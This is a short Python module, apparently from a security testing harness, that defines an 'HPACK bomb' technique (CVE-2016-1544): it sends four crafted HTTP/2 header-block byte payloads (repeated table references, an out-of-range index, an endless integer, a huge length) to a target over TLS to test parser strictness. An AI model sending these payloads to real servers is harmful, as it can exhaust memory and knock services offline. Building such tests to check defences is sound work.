"""A small block of fields may stand for a large one."""

from typing import Any

from space_evaluate import inside
from space_evaluate.inside import Case
from space_evaluate.technique import Technique

TECHNIQUE = Technique(
    tries="Send a block that refers to the table again and again, to what is not in it, and with numbers without end.",
    claim="E3",
    defences=("parser strictness: HTTP/2",),
    stopped_by=("http2_",),
    variants={one: one for one in ("again and again", "not in it", "a number without end", "a huge length")},
    source="HPACK bomb, CVE-2016-1544",
)


def attack(case: Case, what: Any) -> None:
    blocks = {
        "again and again": b"\x40\x01x\x7f\x81\x1e" + b"a" * 4000 + b"\xbe" * 12_000,
        "not in it": b"\xff\xff\xff\x0f",
        "a number without end": b"\xff" * 200,
        "a huge length": b"\0\x7f\xff\xff\xff\xff\x0f",
    }
    case.tls(
        case.ground.packages,
        inside.PREFACE + inside.h2_frame(inside.HEADERS, blocks[what], flags=5, stream=1),
        alpn=["h2"],
        until=inside.h2_answered,
    )
